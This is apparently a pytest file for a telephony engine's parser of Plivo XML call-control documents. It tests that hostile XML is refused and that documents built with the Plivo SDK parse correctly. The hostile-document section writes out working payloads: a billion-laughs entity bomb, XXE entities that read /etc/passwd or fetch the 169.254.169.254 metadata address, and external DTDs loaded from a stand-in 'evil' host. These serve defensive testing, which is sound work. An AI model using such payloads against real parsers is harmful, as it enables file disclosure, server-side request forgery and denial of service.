"""Hostile answer_url documents are refused without harm, and documents built with Plivo's
own SDK (``plivo.plivoxml``) parse as Plivo would run them (pure)."""

from __future__ import annotations

import pytest
from plivo import plivoxml

from engine.domain.numbers import Extension, External
from engine.domain.plivo.document import DocumentContext, DocumentError, parse_document
from engine.domain.plivo.xml_safe import MAX_DEPTH, MAX_DOCUMENT_BYTES, MAX_ELEMENTS
from engine.domain.programs.verbs import (
    Conference,
    Dial,
    GetDigits,
    Hangup,
    Play,
    PreAnswer,
    Record,
    Redirect,
    SendDigits,
    Speak,
    Wait,
)
from engine.domain.voices import HEART, VoiceCatalogue, espeak_voices

CONTEXT = DocumentContext(VoiceCatalogue((*espeak_voices(["en-us", "en-gb"]), HEART)),
                          frozenset({"101"}), "US")


def refused(body: bytes) -> str:
    with pytest.raises(DocumentError) as caught:
        parse_document(body, CONTEXT)
    return str(caught.value)


# ---- hostile documents ------------------------------------------------------------------


BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<Response><Speak>&lol9;</Speak></Response>"""


def test_billion_laughs_is_refused() -> None:
    assert "DTD" in refused(BILLION_LAUGHS)


@pytest.mark.parametrize("body", [
    b'<?xml version="1.0"?><!DOCTYPE r [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
    b"<Response><Speak>&xxe;</Speak></Response>",
    b'<?xml version="1.0"?><!DOCTYPE r [<!ENTITY xxe SYSTEM "http://169.254.169.254/">]>'
    b"<Response><Speak>&xxe;</Speak></Response>",
    b'<?xml version="1.0"?><!DOCTYPE r [<!ENTITY % p SYSTEM "http://evil/x.dtd"> %p;]>'
    b"<Response/>",
    b'<?xml version="1.0"?><!DOCTYPE Response SYSTEM "http://evil/x.dtd"><Response/>',
])
def test_external_entities_and_dtds_are_refused(body: bytes) -> None:
    message = refused(body)
    assert "passwd" not in message and "root:" not in message


def test_an_undeclared_entity_is_not_well_formed() -> None:
    assert "well-formed" in refused(b"<Response><Speak>&xxe;</Speak></Response>")


def test_ten_megabytes_are_refused_before_parsing() -> None:
    body = b"<Response><Speak>" + b"a" * (10 * 1024 * 1024) + b"</Speak></Response>"
    assert str(MAX_DOCUMENT_BYTES) in refused(body)


def test_a_document_just_over_the_bound_is_refused() -> None:
    body = b"<Response>" + b" " * MAX_DOCUMENT_BYTES + b"</Response>"
    assert "larger" in refused(body)


def test_deep_nesting_is_refused() -> None:
    depth = 100_000
    body = b"<Response>" + b"<a>" * depth + b"</a>" * depth + b"</Response>"
    assert len(body) < MAX_DOCUMENT_BYTES * 4
    body = body[:MAX_DOCUMENT_BYTES]  # unclosed: the depth bound stops it before the end
    assert f"deeper than {MAX_DEPTH}" in refused(body)


def test_many_elements_are_refused() -> None:
    body = b"<Response>" + b"<Wait/>" * (MAX_ELEMENTS + 1) + b"</Response>"
    assert str(MAX_ELEMENTS) in refused(body)


def test_a_program_at_the_element_bound_is_accepted() -> None:
    body = b"<Response>" + b"<Wait/>" * (MAX_ELEMENTS - 1) + b"</Response>"
    assert len(parse_document(body, CONTEXT)) == MAX_ELEMENTS - 1


# ---- documents built with Plivo's SDK -------------------------------------------------------


def sdk(response: plivoxml.ResponseElement) -> bytes:
    text: str = response.to_string()
    return text.encode()


def test_sdk_ivr_document() -> None:
    response = plivoxml.ResponseElement()
    response.add(plivoxml.SpeakElement("Welcome", voice="WOMAN", language="en-US", loop=1))
    digits = plivoxml.GetDigitsElement(
        action="https://app.example/menu", method="POST", timeout=7, digit_timeout=3,
        finish_on_key="#", num_digits=1, retries=2, redirect=True, play_beep=True,
        valid_digits="12", invalid_digits_sound="https://app.example/invalid.mp3")
    digits.add_speak("Press 1 for sales, 2 for support")
    digits.add_play("https://app.example/menu.mp3", loop=2)
    digits.add_wait(length=2)
    response.add(digits)
    response.add(plivoxml.SpeakElement("No input. Goodbye", voice="MAN"))
    response.add(plivoxml.HangupElement(reason="rejected"))
    speak, menu, bye, hangup = parse_document(sdk(response), CONTEXT)
    assert isinstance(speak, Speak) and speak.utterance.parts[0].text == "Welcome"
    assert isinstance(menu, GetDigits)
    assert (menu.action, menu.timeout, menu.digit_timeout, menu.num_digits, menu.retries) == (
        "https://app.example/menu", 7.0, 3.0, 1, 2)
    assert (menu.play_beep, menu.valid_digits, menu.invalid_digits_media) == (
        True, "12", ("https://app.example/invalid.mp3",))
    assert menu.prompts[1:] == (Play(("https://app.example/menu.mp3",), 2), Wait(2.0))
    assert isinstance(bye, Speak) and bye.utterance.voice.gender == "male"
    assert hangup == Hangup("rejected", 0.0)


def test_sdk_dial_record_conference_dtmf_redirect() -> None:
    response = plivoxml.ResponseElement()
    pre = plivoxml.PreAnswerElement()
    pre.add_speak("Connecting")
    response.add(pre)
    response.add(plivoxml.DTMFElement("1w2", async_=False))
    dial = plivoxml.DialElement(action="https://app.example/dial", method="GET",
                                caller_id="+14155550199", caller_name="Acme", timeout=25,
                                time_limit=600, redirect=False, hangup_on_star=False)
    dial.add(plivoxml.NumberElement("+14155550100"))
    dial.add(plivoxml.UserElement("sip:101@pbx.example"))
    response.add(dial)
    response.add(plivoxml.RecordElement(
        action="https://app.example/rec", file_format="wav", max_length=30, timeout=5,
        play_beep=True, finish_on_key="*", redirect=False,
        callback_url="https://app.example/ready"))
    response.add(plivoxml.ConferenceElement(
        "team", muted=True, enter_sound="beep:1", exit_sound="beep:1",
        start_conference_on_enter=True, end_conference_on_exit=True, max_members=5,
        wait_sound="https://app.example/hold.mp3", callback_url="https://app.example/conf",
        callback_method="POST"))
    response.add(plivoxml.RedirectElement("https://app.example/next", method="GET"))
    verbs = parse_document(sdk(response), CONTEXT)
    assert [type(v) for v in verbs] == [PreAnswer, SendDigits, Dial, Record, Conference,
                                        Redirect]
    _, dtmf, dial_verb, record, conference, redirect = verbs
    assert dtmf == SendDigits("1w2", asynchronous=False)
    assert dial_verb == Dial((External("14155550100"), Extension("101")), "14155550199",
                             timeout=25, time_limit=600, action="https://app.example/dial",
                             method="GET", redirect=False, caller_name="Acme")
    assert record == Record(max_length=30, timeout=5, finish_on_key="*", beep=True,
                            action="https://app.example/rec", redirect=False,
                            callback_url="https://app.example/ready")
    assert isinstance(conference, Conference)
    assert (conference.name, conference.muted, conference.beep, conference.end_on_exit,
            conference.max_members) == ("team", True, True, True, 5)
    assert conference.wait_sound == "https://app.example/hold.mp3"
    assert redirect == Redirect("https://app.example/next", "GET")


def test_sdk_attributes_this_engine_does_not_honour_are_named() -> None:
    response = plivoxml.ResponseElement()
    response.add(plivoxml.RecordElement(transcription_type="auto",
                                        transcription_url="https://app.example/t"))
    assert "'transcriptionType' is not supported" in refused(sdk(response))
    response = plivoxml.ResponseElement()
    response.add(plivoxml.RecordElement(file_format="mp3"))
    assert "'fileFormat'" in refused(sdk(response))
